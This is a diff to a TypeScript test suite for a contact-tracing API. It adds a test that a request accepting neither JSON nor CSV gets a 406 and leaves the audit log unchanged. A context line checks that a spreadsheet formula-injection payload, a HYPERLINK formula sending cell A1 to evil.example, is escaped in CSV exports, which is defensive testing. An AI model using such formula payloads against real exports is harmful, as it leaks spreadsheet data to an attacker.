@@ -31,6 +31,7 @@ describeOnEveryStore('contact tracing', (store) => {
   let mai: Person;
 
   const tracer = () => gw.token(['tracing', 'tracing:contact'], 'cdc-haiphong');
+  const supervisor = () => gw.token(['tracing:approve'], 'cdc-haiphong-supervisor');
   const register = async (body: object) => (await gw.call('POST', '/v1/venues', { body, token: gw.token(['venues:write']) })).body;
   const checkin = async (body: object) => {
     const res = await gw.call('POST', '/v1/checkins', { body, token: gw.token(['checkins:write']) });
@@ -181,6 +182,19 @@ describeOnEveryStore('contact tracing', (store) => {
     assert.ok(lines.includes(`"${hostile.citizenId}","'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")","tel:+84904222333"`));
     for (const line of lines.slice(1, -1)) for (const cell of line.split('","')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@]/);
     assert.equal(lines.at(-1), '', 'every line ends with CRLF');
+  });
+
+  it('answers 406 to a caller who accepts neither JSON nor CSV (text/csv;q=0 alone), and records no read', async () => {
+    const { queryId } = (await query({ venues: [hotel.venueId], ...NOTICE })).body;
+    const before = (await gw.call('GET', '/v1/tracing/audit', { token: supervisor() })).body.entries.length;
+    const res = await gw.call('GET', `${QUERIES}/${queryId}/contacts`, {
+      route: CONTACTS,
+      token: tracer(),
+      headers: { accept: 'text/csv;q=0' },
+    });
+    assert.equal(res.status, 406);
+    assert.equal(res.body.type.endsWith('/not-acceptable'), true);
+    assert.equal((await gw.call('GET', '/v1/tracing/audit', { token: supervisor() })).body.entries.length, before);
   });
 
   it('answers 404 to a caller other than the one who asked, and to an unknown query', async () => {
